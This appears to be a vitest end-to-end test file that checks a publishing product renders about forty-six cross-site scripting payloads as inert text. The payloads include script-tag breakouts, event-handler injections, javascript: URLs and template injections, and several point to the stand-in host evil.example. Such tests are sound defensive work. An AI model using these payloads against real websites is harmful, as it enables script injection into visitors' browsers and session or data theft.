import { afterAll, beforeAll, expect, test } from 'vitest';
import { href } from '#contract/routes.ts';
import { hydrated, setUpBrowser } from '../helpers/browser.ts';
import type { RunningServices } from '../helpers/own-services.ts';
import { paragraph, publish } from '../helpers/posts.ts';
import { type Product, startProduct } from '../helpers/product.ts';
import { generousTimeouts } from '../helpers/program.ts';
import { startSharedServices } from '../helpers/shared-services.ts';

const browser = setUpBrowser();
let services: RunningServices;
let product: Product;
beforeAll(async () => {
  services = await startSharedServices();
  product = await startProduct({ env: { ...generousTimeouts, ...services.env } });
});
afterAll(async () => {
  await product?.remove();
  await services?.remove();
});

/** Opens a post and collects its dialogs and its requests to other origins. */
async function visit(slug: string) {
  const page = await browser.open({ origin: product.origin });
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { origin, protocol } = new URL(request.url());
    if (origin !== product.origin && protocol.startsWith('http')) foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.goto(href('post', { slug }));
  await hydrated(page);
  return { page, foreign };
}
/** Number of closing script tags in the page of a post. */
const scriptEnds = async (slug: string) =>
  (await (await fetch(product.url(href('post', { slug })))).text()).match(/<\/script/gi)?.length;

const breakouts = [
  '</script><script>window.pwned=1</script>',
  '<!--<script>window.pwned=1//',
  '\u2028window.pwned=1\u2029',
  'lone \ud800 surrogate',
  ']]><img src=x onerror=window.pwned=1>',
  '"};window.pwned=1;//',
];

test.each(breakouts.map((text, index) => [text, `breakout-${index}`] as const))(
  'T09: %j in title and body neither closes the payload script nor runs',
  async (text, slug) => {
    await publish(services, { slug, title: `Before ${text} after`, body: paragraph(text) });
    await publish(services, { slug: `${slug}-plain` });
    expect(await scriptEnds(slug)).toBe(await scriptEnds(`${slug}-plain`));
    const { page, foreign } = await visit(slug);
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
    expect(await page.locator('h1').innerText()).toContain('Before');
    expect([foreign, page.problems]).toEqual([[], []]);
  },
);

const payloads = [
  '<script>window.pwned=1</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=window.pwned=1>',
  '<IMG """><SCRIPT>window.pwned=1</SCRIPT>"\\>',
  '<svg/onload=window.pwned=1>',
  '<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.pwned=1</script>">',
  '<iframe src=javascript:parent.pwned=1>',
  '<body onload=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>',
  '<input autofocus onfocus=window.pwned=1>',
  '<video><source onerror=window.pwned=1>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>',
  '<a href="jav&#x09;ascript:window.pwned=1">x</a>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<style>@import "//evil.example/x.css";</style>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<form action=//evil.example><button>go</button></form>',
  '<template><script>window.pwned=1</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<xss style="animation-name:x" onanimationstart=window.pwned=1>',
  '{{constructor.constructor("window.pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on templates, not a template
  '${window.pwned=1}',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.pwned=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e',
  'javascript:window.pwned=1',
  '<<script>window.pwned=1//<</script>',
  '<script\\x20type="text/javascript">window.pwned=1</script>',
  '<img src="x`<script>window.pwned=1</script>"`>',
  '<div onpointerover=window.pwned=1>hover</div>',
  '<marquee onstart=window.pwned=1>',
  '<audio src onloadstart=window.pwned=1>',
  '<select autofocus onfocus=window.pwned=1>',
  '<textarea autofocus onfocus=window.pwned=1>',
  '<keygen autofocus onfocus=window.pwned=1>',
  '<isindex action=javascript:window.pwned=1 type=image>',
];

test('T50: 40 script payloads in every text of a post are shown as text', async () => {
  expect(payloads).toHaveLength(40);
  const content = payloads.map((text) => ({ type: 'paragraph' as const, content: [{ type: 'text' as const, text }] }));
  await publish(services, {
    slug: 'forty-ways',
    title: payloads[0] as string,
    summary: payloads.slice(1, 5).join(' '),
    body: { type: 'doc', content },
    tags: ['<b>tag</b>'],
    seo: { title: '"><script>1</script>', description: '"><script>window.pwned=1</script>' },
  });
  const { page, foreign } = await visit('forty-ways');
  await page.locator('article, main').first().hover();
  const text = await page.locator('main').innerText();
  for (const payload of payloads) expect(text.replace(/\s+/g, ' ')).toContain(payload.replace(/\s+/g, ' '));
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(
    await page.locator('main script:not([type="application/ld+json"]), main iframe, main object, main embed').count(),
  ).toBe(0);
  expect([foreign, page.problems]).toEqual([[], []]);
});

test('T30: a title that looks like a timestamp stays a title', async () => {
  await publish(services, {
    slug: 'a-moment',
    title: '2026-01-01T00:00:00Z',
    body: paragraph('2026-01-01T00:00:00.000Z'),
  });
  const { page } = await visit('a-moment');
  expect(await page.locator('h1').innerText()).toBe('2026-01-01T00:00:00Z');
  expect(page.problems).toEqual([]);
});
